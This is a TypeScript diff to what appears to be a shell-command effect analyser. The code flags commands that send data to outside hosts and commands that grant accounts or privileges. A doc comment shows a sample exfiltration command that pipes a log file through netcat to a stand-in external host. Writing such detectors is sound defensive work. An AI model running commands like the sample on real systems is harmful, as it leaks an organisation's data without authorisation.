@@ -5,13 +5,12 @@ import { raiseWords } from '../../code.js'
 import { readOtherQuery } from '../../sql/other-queries.js'
 import { readPossibleSql } from '../../sql/read-sql.js'
 import { elsewhere as runsThere } from '../../world/known-world.js'
-import { type Call, type ShellContext, hasOption, isOpen, operandsOf, quoted } from '../call.js'
+import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
 import { noteModes } from './doors.js'
 import { raiseIrreversible } from './irreversible.js'
 import { onlyLooks } from './looks.js'
-import { noteSent } from './sent.js'
 
 const GRANT_COMMANDS = new Set(
   'useradd adduser usermod groupadd addgroup groupmod gpasswd visudo chsh vipw'.split(' '),
@@ -96,6 +95,13 @@ export function noteShellActs(call: Call, context: ShellContext): void {
   if (RUNS_CODE.has(name.slice(name.lastIndexOf('/') + 1)))
     for (const text of args) if (/[\s(]/.test(text)) raiseWords(text, effects)
   if (name === 'chmod') noteModes(call, operands, effects)
+}
+
+/** Records that what a command is fed or prints goes to a host that is not of the organisation: a task that names the host asks for it. */
+export function noteSent(host: string, context: ShellContext): void {
+  if (host === '' || placeOfHost(host, context) !== 'outside') return
+  raiseIrreversible('send', 'what a command is fed goes to another host', context.effects)
+  actsOn(context.effects, 'send', { kind: 'host', byName: true, names: [host, ...wordsIn(host)] })
 }
 
 /** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
